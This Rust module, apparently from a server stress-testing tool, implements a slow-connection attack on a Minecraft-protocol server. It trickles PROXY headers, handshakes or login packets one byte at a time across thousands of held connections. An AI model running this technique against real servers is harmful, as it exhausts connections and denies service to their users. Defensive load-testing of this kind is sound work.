//! One byte at a time, so that a connection is held for as long as the server lets it.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use uuid::Uuid;

use super::floods::hello;
use super::{Attack, Ground, Move, Origin, Plan, Strike};
use crate::random::Random;
use crate::wire::{Intent, put_handshake, put_login_start, put_packet};

/// Where an attacker begins to be slow.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Stage {
    /// In the PROXY header, as a balancer.
    ProxyHeader,
    /// In the handshake.
    Handshake,
    /// In login start.
    Login,
    /// In the ping after a handshake.
    Status,
}

/// Slow connections.
pub(super) struct Slow {
    stage: Stage,
    /// Said at once.
    fast: Vec<u8>,
    /// Said byte by byte.
    slow: Arc<[u8]>,
}

impl Slow {
    pub(super) fn new(stage: Stage, ground: &Ground) -> Self {
        let (mut fast, mut slow) = (Vec::new(), Vec::new());
        let greet = |bytes: &mut Vec<u8>, host: &str, intent| {
            let hello = hello(ground, host);
            put_handshake(bytes, hello.protocol, &hello.host, hello.port, intent);
        };
        match stage {
            Stage::ProxyHeader => slow.extend_from_slice(b"PROXY TCP4 127.66.0.9 127.0.0.1 40000 25565\r\n"),
            Stage::Handshake => greet(&mut slow, &"a".repeat(200), Intent::Status),
            Stage::Login => {
                greet(&mut fast, &ground.login_host, Intent::Login);
                put_login_start(&mut slow, "Slow", Uuid::from_u128(4));
            }
            Stage::Status => {
                greet(&mut fast, &ground.relay_host, Intent::Status);
                put_packet(&mut slow, 0x01, |body| body.extend_from_slice(&[7; 8]));
            }
        }
        // The last byte is never said.
        slow.pop();
        Self {
            stage,
            fast,
            slow: slow.into(),
        }
    }
}

impl Attack for Slow {
    fn plan(&self) -> Plan {
        Plan {
            rate: 1_000.0,
            at_once: 2_000,
            lifetime: Duration::from_secs(60),
            pulse: Some(Duration::from_millis(250)),
            origin: if self.stage == Stage::ProxyHeader {
                Origin::Balancer
            } else {
                Origin::Many
            },
        }
    }

    fn strike(
        &mut self,
        _: u64,
        _: Option<Ipv4Addr>,
        _: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        output.extend_from_slice(&self.fast);
        let trickle = Trickle {
            bytes: Arc::clone(&self.slow),
            said: 0,
        };
        (Box::new(trickle), Move::Stay)
    }
}

/// What is said byte by byte.
struct Trickle {
    bytes: Arc<[u8]>,
    said: usize,
}

impl Strike for Trickle {
    fn pulse(&mut self, output: &mut Vec<u8>) -> Move {
        output.extend(self.bytes.get(self.said));
        self.said += 1;
        Move::Stay
    }
}
